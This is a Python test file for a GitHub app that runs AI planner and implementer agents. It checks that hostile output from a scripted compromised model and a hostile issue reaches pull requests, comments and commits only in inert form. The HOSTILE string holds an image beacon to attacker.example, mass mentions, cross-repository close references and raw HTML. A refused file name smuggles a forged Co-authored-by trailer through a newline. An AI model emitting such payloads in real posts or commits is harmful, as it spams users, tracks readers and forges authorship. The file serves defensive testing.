"""A compromised planner and agent, and a hostile issue, on the real stack: whatever text they
produce, what the app posts and commits pings nobody, references and closes nothing of another
repository, loads no remote image and forges no trailer."""

from __future__ import annotations

import json
import subprocess
from collections import Counter
from pathlib import Path

from temporalio.client import Client

from tests.fakehub import FakeHub
from tests.fakes import ScriptedModel, ToolCall, Turn
from tests.support.gfm import plain_links, render
from tests.support.payloads import comment_event, webhook_headers
from tests.support.project import PROJECT_FILES, edit, plan_input, remember
from tests.support.runstack import OWNER, SECRET, RunStack, run_stack

HOSTILE = (
    "Fixes #1 closes other-org/other-repo#1 GH-3 @someone @everyone @org/team "
    "![](http://attacker.example/pixel?d=x) https://github.com/other-org/other-repo/issues/1 "
    "www.attacker.example <img src=x> <!-- hidden --> </details> other/repo@a5c3785"
)
# Outside the implementer's paths (see CONFIG), so refused and named in the commit message.
REFUSED = "notes\nCo-authored-by: Evil <evil@example.com> @someone #1.txt"
CONFIG = 'paths:\n  implement: ["cli.py", "README.md"]\n'


def _git(repo: Path, *args: str) -> str:
    return subprocess.run(
        ["git", *args], cwd=repo, capture_output=True, text=True, check=True
    ).stdout


def _hostile_plan() -> Turn:
    plan = plan_input(("implement",), reason=HOSTILE)
    plan["summary"] = HOSTILE + "\n\n```\n" + HOSTILE
    plan["subtasks"][0]["goal"] = HOSTILE
    plan["subtasks"][0]["acceptance"] = [HOSTILE]
    plan["contract"]["behaviours"] = [HOSTILE]
    plan["contract"]["interfaces"][0]["behaviour"] = HOSTILE
    return Turn(tool_calls=[ToolCall("submit_plan", plan)])


def _hostile_agent() -> list[Turn]:
    sneaky = f"touch '{REFUSED}'"
    work = [
        ToolCall("run", {"command": sneaky}),
        remember("notes", HOSTILE),
        edit("README.md", "A tiny command-line tool.", "A tiny command-line tool!"),
    ]
    return [Turn(tool_calls=work), Turn(text=HOSTILE + "\nCo-authored-by: Evil <e@x.example>")]


async def _command_on_hostile_issue(stack: RunStack, number: int) -> int:
    """`/orchestrate` alone on an issue whose title and body are hostile: they are the task.
    Returns the command's comment id (its run's id names it)."""
    stack.hub.add_issue(OWNER, stack.repo, number, HOSTILE, HOSTILE)
    comment_id = stack.hub.add_comment(OWNER, stack.repo, number, "/orchestrate", user="maintainer")
    payload = comment_event(
        "/orchestrate",
        owner=OWNER,
        repo=stack.repo,
        repo_id=stack.repo_id,
        issue_number=number,
        comment_id=comment_id,
        login="maintainer",
    )
    payload["issue"].update(title=HOSTILE, body=HOSTILE)
    raw = json.dumps(payload).encode()
    headers = webhook_headers("issue_comment", raw, SECRET)
    response = await stack.http.post("/webhooks", content=raw, headers=headers)
    assert response.status_code == 202, response.text
    return comment_id


async def test_hostile_text_reaches_readers_inert(
    hub: FakeHub, temporal_client: Client, task_queue: str, repo_name: str, tmp_path: Path
) -> None:
    """Issue title, plan, agent summary, memory note and a refused file name full of mentions,
    references, URLs, images and HTML: the status comment, the PR title and body, and every
    commit message link only what the app itself links."""
    scripts = {"submit_plan": [_hostile_plan()], "implement": _hostile_agent()}
    with ScriptedModel(scripts) as model:
        files = {**PROJECT_FILES, ".github/orchestrate.yml": CONFIG}
        async with run_stack(
            hub, temporal_client, task_queue, repo_name, model, tmp_path, files=files
        ) as stack:
            comment_id = await _command_on_hostile_issue(stack, 2)
            progress = await stack.finished_run(issue=2, comment_id=comment_id)
            assert progress.state == "done", progress.state

            [pull] = stack.pulls()
            assert not plain_links(pull.title)
            body = render(pull.body or "")
            assert "img" not in body.tags and "a" not in body.tags and body.comments == 1
            assert body.links() == Counter({"issue:#2": 1, "closing:Closes #2": 1})
            assert "Fixes #1 closes" in body.text.replace("\u200b", "")  # shown, inert

            [status] = stack.app_comments(issue=2)
            comment = render(status)
            assert "img" not in comment.tags and comment.tags.count("a") == 1  # the PR link
            assert comment.links() == Counter({f"url:{progress.pr_url[:8]}": 1})

            log = _git(stack.bare, "log", "--format=%B%x00", f"main..{pull.head_ref}")
            messages = [m.strip() for m in log.split("\x00") if m.strip()]
            assert messages and not [m for m in messages if plain_links(m)]
            assert "Co-authored-by\\x3a Evil" in messages[0]  # the refused name, escaped
            trailers = _git(
                stack.bare, "log", "--format=%(trailers:only,unfold)", f"main..{pull.head_ref}"
            )
            task = f"{stack.run_handle(issue=2, comment_id=comment_id).id}/implement/r1"
            assert [t for t in trailers.splitlines() if t] == [
                "Orchestrate-Agent: implement",
                f"Orchestrate-Task: {task}",
            ]
